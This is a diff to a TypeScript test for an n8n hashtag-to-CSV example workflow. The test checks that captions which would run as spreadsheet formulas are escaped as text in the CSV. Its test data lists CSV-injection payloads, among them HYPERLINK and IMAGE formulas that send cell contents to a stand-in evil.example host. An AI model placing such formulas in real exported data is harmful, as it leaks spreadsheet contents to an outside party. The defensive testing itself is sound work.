@@ -7,11 +7,14 @@
  *   thresholds change; credits as the README says;
  * - n8n-node/examples/hashtag-watch-to-csv.json: the hashtag trigger across real polls, each new
  *   post once, oldest first, as a CSV row (Convert to File) and its image as a file (Read/Write
- *   Files); credits = pages read; a caption a spreadsheet would run as a formula stays text.
+ *   Files); credits = pages read; captions a spreadsheet would run as formulas (published in the
+ *   sandbox) are written as the trigger's `caption_for_sheets` and read back as their text.
  */
 import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import { spreadsheetSafe } from '@igdata/core';
+import { enterValue } from '../../scripts/gas-standin/services/cellInput';
 import { parseCsv as parseRows } from '../../scripts/gas-standin/services/utilities';
 import { drawPicture } from '../../scripts/sandbox/media/pictures';
 import type { N8nWorld } from './setup';
@@ -154,8 +157,11 @@ describe('the example "watch #veganrecipes, new posts to CSV and images"', () =>
     }
     return { wf, path, env: { N8N_RESTRICT_FILE_ACCESS_TO: path } };
   }
-  const publish = async (count: number) => {
-    const res = await fetch(`${world.sb.url}/_sandbox/hashtag/veganrecipes/publish?count=${count}`, { method: 'POST' });
+  const publish = async (count: number, caption?: string) => {
+    const query = caption === undefined ? '' : `&caption=${encodeURIComponent(caption)}`;
+    const res = await fetch(`${world.sb.url}/_sandbox/hashtag/veganrecipes/publish?count=${count}${query}`, {
+      method: 'POST',
+    });
     expect(res.status).toBe(200);
     return (
       (await res.json()) as {
@@ -229,52 +235,41 @@ describe('the example "watch #veganrecipes, new posts to CSV and images"', () =>
     expect(JSON.stringify(runs)).not.toContain(world.apiKey);
   });
 
-  test("a caption a spreadsheet would run as a formula is written as text (a leading '); others unchanged", async () => {
+  test("captions a spreadsheet would run or change reach the CSV as the trigger's caption_for_sheets, and read back as their text", async () => {
     const { wf, path, env } = inFolder('captions');
+    const first = await rt.pollOnce(world.home, wf, { env });
+    expect(first.executions).toEqual([]); // where the feed stands
+    // OWASP's CSV injection starts (=, +, -, @, a tab, a carriage return), and plain captions. n8n
+    // 2.8.4's Convert to File writes a lone CR unquoted (`'\r=1+1` split the row): the twin holds a
+    // line feed there, which it quotes.
     const captions = [
+      '=IMAGE("https://x.example/?"&A1)',
       '=HYPERLINK("https://evil.example/?"&A1,"win")',
-      '+1 555 0100',
-      '-2 kg',
-      '@everyone look',
-      '\tTAB',
+      '+1',
+      '@SUM(1)',
+      '-2+3',
+      '\t=1+1',
+      '\r=1+1',
+      'Fresh\r=2+2',
       'Plain #veganrecipes, with "quotes"',
-      '',
     ];
-    const manual = {
-      id: 'm1',
-      name: 'Start',
-      type: 'n8n-nodes-base.manualTrigger',
-      typeVersion: 1,
-      position: [0, 0],
-      parameters: {},
-    };
-    const posts = {
-      id: 'c1',
-      name: 'Posts',
-      type: 'n8n-nodes-base.code',
-      typeVersion: 2,
-      position: [200, 0],
-      parameters: {
-        jsCode: `return ${JSON.stringify(captions)}.map((caption, i) => ({ json: { taken_at: '2026-11-25T10:00:0' + i + 'Z', 'author.username': 'a' + i, like_count: i, comment_count: 0, caption, url: 'https://www.instagram.com/p/x' + i + '/', fileName: '/f' + i } }));`,
-      },
-    };
-    // The example's own nodes from its CSV columns on.
-    const tail = ['CSV columns', 'To CSV', 'Save CSV'].map((name) => node(wf, name));
-    const chain = [manual, posts, ...tail];
-    const r = await rt.runWorkflow(
-      world.home,
-      {
-        name: 'igdata csv captions',
-        nodes: chain,
-        connections: Object.fromEntries(
-          chain.slice(0, -1).map((n, i) => [n.name, { main: [[{ node: chain[i + 1].name, type: 'main', index: 0 }]] }]),
-        ),
-      },
-      { env },
-    );
-    expect(r.error).toBeUndefined();
-    const [file] = readdirSync(path);
+    const published = [];
+    for (const caption of captions) published.push(...(await publish(1, caption)));
+    const second = await rt.pollOnce(world.home, first.id, { env });
+    expect(second.executions).toHaveLength(1);
+    expect(second.executions[0].status).toBe('success');
+    const [file] = readdirSync(path).filter((f) => f.endsWith('.csv'));
     const rows = parseCsv(readFileSync(join(path, file), 'utf8'));
-    expect(rows.map((row) => row.caption)).toEqual(captions.map((c) => (/^[=+\-@\t\r]/.test(c) ? `'${c}` : c)));
+    // Oldest first: the order they were published in.
+    expect(rows.map((row) => row.url)).toEqual(published.map((p) => p.url));
+    // The file holds core's spreadsheet-safe twin: a leading ' exactly where a spreadsheet would compute.
+    expect(rows.map((row) => row.caption)).toEqual(captions.map(spreadsheetSafe));
+    // Typed into a sheet (the Apps Script stand-in's model of typed input), each is the caption, as text
+    // (a lone CR as the line feed the twin holds).
+    expect(rows.map((row) => enterValue(row.caption, '', 'UTC'))).toEqual(
+      captions.map((value) => ({ value: value.replace(/\r(?!\n)/g, '\n') })),
+    );
+    // The plain caption would not be: the first would be a live formula.
+    expect(enterValue(captions[0], '', 'UTC')).toEqual({ value: '', formula: captions[0] });
   });
 });
